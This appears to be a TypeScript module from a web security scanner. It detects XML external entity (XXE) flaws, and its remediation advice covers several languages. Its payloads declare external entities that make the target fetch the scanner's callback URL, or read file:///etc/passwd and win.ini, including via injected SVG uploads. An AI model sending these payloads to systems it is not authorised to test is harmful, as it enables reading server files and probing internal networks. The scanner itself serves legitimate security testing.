import { bodyText, type HttpAnswer } from '#probes/http/answer.ts';
import type { Callback } from '../../callbacks/callbacks.ts';
import { fillPoint, outgoing, type Json, type SiteRequest } from '../../points/point.ts';
import { cheatSheet, defineRule, type Check, type Scan, type Tried } from '../../rule.ts';
import { byDepth } from '../execution/likely.ts';
import { contactTwice, fetches, describeContact } from './contact.ts';

const rule = defineRule({
  id: 'active.xxe',
  title: 'XML from a request makes the server open files and addresses (external entities)',
  vector: 'AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:N/A:L',
  cwe: 'CWE-611',
  pciAutoFail: true,
  explanation:
    'The website reads XML that visitors send, and its parser opens what the document names as an external entity. Attackers read files of the server in this way (settings, keys, source code) and have it contact machines of the inner network.',
  fix: '1. Switch document type definitions off in the XML parser, or at least external entities.\nJava: factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true)\nPHP: do without LIBXML_NOENT and LIBXML_DTDLOAD\nPython: use defusedxml; lxml: etree.XMLParser(resolve_entities=False, no_network=True)\n.NET: settings.DtdProcessing = DtdProcessing.Prohibit\n2. Accept only the media types that an interface needs; where JSON is enough, refuse XML.\n3. Keep the server from opening connections to the internet.',
  references: [
    'https://owasp.org/www-community/vulnerabilities/XML_External_Entity_(XXE)_Processing',
    cheatSheet('XML_External_Entity_Prevention'),
  ],
});

/** The document with declarations of its own, in place of those that it had. */
function withDeclarations(text: string, declarations: string): string {
  const bare = text.replace(/<!DOCTYPE[^[>]{0,500}(?:\[[^\]]{0,3000}\]\s{0,100})?>/, '');
  const root = /<([A-Za-z_][\w.:-]{0,100})/.exec(bare)?.[1] ?? 'r';
  const [prolog = ''] = /^\s*<\?xml[^>]{0,200}\?>/.exec(bare) ?? [];
  return `${prolog.trimStart()}<!DOCTYPE ${root} [${declarations}]>${bare.slice(prolog.length)}`;
}

/** Sends the point's document with declarations; `text` goes where its value stood. Null where the point takes none. */
type Send = (declarations: string, text: string) => Promise<HttpAnswer | null>;

const xmlName = (name: string) => name.replace(/[^\w-]/g, '_').replace(/^(?![A-Za-z_])/, '_');

function elements(value: Json, depth = 0): string {
  if (depth > 6) return '';
  if (Array.isArray(value))
    return value
      .slice(0, 3)
      .map((item) => `<item>${elements(item, depth + 1)}</item>`)
      .join('');
  if (value !== null && typeof value === 'object')
    return Object.entries(value)
      .slice(0, 40)
      .map(([name, item]) => `<${xmlName(name)}>${elements(item, depth + 1)}</${xmlName(name)}>`)
      .join('');
  return '\u0000';
}

const isXml = (text: string) =>
  /^\s*(?:<\?xml|<!DOCTYPE|<[A-Za-z_][\w.:-]*[\s>/])/.test(text) && !/<html/i.test(text);

function sendAs(
  scan: Scan,
  request: SiteRequest,
  mediaType: string,
  document: string,
): Promise<HttpAnswer | null> {
  const { url, ask } = outgoing({ ...request, body: { kind: 'text', mediaType, text: document } });
  return scan.ask(url, ask);
}

const textPlace = />[^<>]*</;
const put = (document: string, text: string) => document.replace(textPlace, () => `>${text}<`);

function senderOf(tried: Tried, scan: Scan): Send | null {
  const { point } = tried;
  const { body } = point.request;
  if (point.kind === 'xml' && body?.kind === 'text')
    return (declarations, text) => {
      const filled = fillPoint(point, text, { raw: true }).body;
      return filled?.kind === 'text'
        ? sendAs(scan, point.request, filled.mediaType, withDeclarations(filled.text, declarations))
        : Promise.resolve(null);
    };
  if (point.kind !== 'path' && isXml(point.value))
    return (declarations, text) => tried.send(withDeclarations(put(point.value, text), declarations));
  if (scan.depth !== 'many' || !scan.mayChange) return null;
  if (point.kind === 'file')
    return (declarations, text) =>
      tried.send(
        withDeclarations(
          `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="90" height="9"><text x="0" y="9">${text}</text></svg>`,
          declarations,
        ),
        { file: { fileName: `${scan.mark}.svg`, type: 'image/svg+xml' } },
      );
  if ((body?.kind !== 'json' && body?.kind !== 'form') || (point.kind !== 'json' && point.kind !== 'form'))
    return null;
  const members =
    body.kind === 'json'
      ? elements(body.value)
      : elements(Object.fromEntries(body.fields.map(([name, value]) => [name, value])));
  return (declarations, text) =>
    sendAs(
      scan,
      point.request,
      'application/xml',
      withDeclarations(
        `<?xml version="1.0"?><root>${members.replaceAll('\u0000', () => text)}</root>`,
        declarations,
      ),
    );
}

/** One document is parsed once, however many texts stand in it. */
function isFirst(scan: Scan, { point }: Tried): boolean {
  const own = point.kind === 'xml' || point.kind === 'json' || (point.kind === 'form' && !isXml(point.value));
  return scan.once(
    `xxe ${point.request.method} ${point.request.url} ${own ? point.kind : `${point.kind} ${point.name}`}`,
  );
}

const quote = (text: string) => text.replaceAll('%', '%25').replaceAll('"', '&#34;');

/** General entities show what they read; parameter entities are read even where nothing is shown. */
const outsideForms: readonly { declare: (call: Callback) => string; text: string }[] = [
  { declare: ({ http }) => `<!ENTITY zqe SYSTEM "${quote(http)}">`, text: '&zqe;' },
  { declare: ({ http }) => `<!ENTITY % zqp SYSTEM "${quote(http)}"> %zqp;`, text: 'a' },
];

async function byContact(tried: Tried, scan: Scan, send: Send): Promise<boolean> {
  const { callbacks } = scan;
  if (!callbacks) return false;
  for (const { declare, text } of outsideForms.slice(0, byDepth(scan, 1, 2, 2))) {
    const attempt = await contactTwice(
      callbacks,
      (call) => send(declare(call), text),
      ({ contact, answer, call }) => {
        if (tried.found.has(rule.id)) return;
        const shown = bodyText(answer).includes(call.content);
        tried.report(rule, {
          answer,
          payload: declare(call),
          evidence: `An external entity was opened: the server contacted our listener twice, each time with the token just sent (${describeContact(contact)}).${shown ? ' The answer shows what our listener said.' : ''}`,
          ...(shown ? { excerpt: call.content } : {}),
        });
      },
      fetches,
    );
    if (attempt.contacted()) return true;
  }
  return false;
}

const files = [
  { address: 'file:///etc/passwd', shape: /\broot:[^:\s]{0,80}:0:0:[^\n<]{0,80}/ },
  {
    address: 'file:///c:/windows/win.ini',
    shape: /\[fonts\][\s\S]{0,200}\[(?:extensions|mci extensions|files|Mail)\]/i,
  },
];

/** Whether the parser replaces entities at all: one that is made of two parts, which nowhere stand together in what is sent. */
async function expands(send: Send, mark: string): Promise<boolean> {
  const answer = await send(`<!ENTITY zqa "${mark}"><!ENTITY zqb "&zqa;x7k">`, '&zqb;');
  return answer !== null && bodyText(answer).includes(`${mark}x7k`);
}

async function byFile(tried: Tried, scan: Scan, send: Send): Promise<void> {
  if (!(await expands(send, scan.mark))) return;
  for (const { address, shape } of files.slice(0, byDepth(scan, 1, 2, 2))) {
    const payload = `<!ENTITY zqe SYSTEM "${address}">`;
    if (shape.test(bodyText(tried.plain))) continue;
    const answer = await send(payload, '&zqe;');
    const seen = answer && shape.exec(bodyText(answer))?.[0];
    if (!answer || !seen) continue;
    // A second look: the same document without the file shows nothing of it.
    const control = await send(`<!ENTITY zqe "none">`, '&zqe;');
    if (!control || shape.test(bodyText(control))) continue;
    tried.report(rule, {
      answer,
      payload,
      evidence: `The answer shows the file ${address}: "${seen.slice(0, 60)}".`,
      excerpt: seen,
    });
    return;
  }
}

export const xxe: Check = {
  name: 'External entities in XML',
  rules: [rule],
  level: 'safe',
  point: async (tried, scan) => {
    const send = senderOf(tried, scan);
    if (!send || !isFirst(scan, tried)) return;
    if (await byContact(tried, scan, send)) return;
    await byFile(tried, scan, send);
  },
};
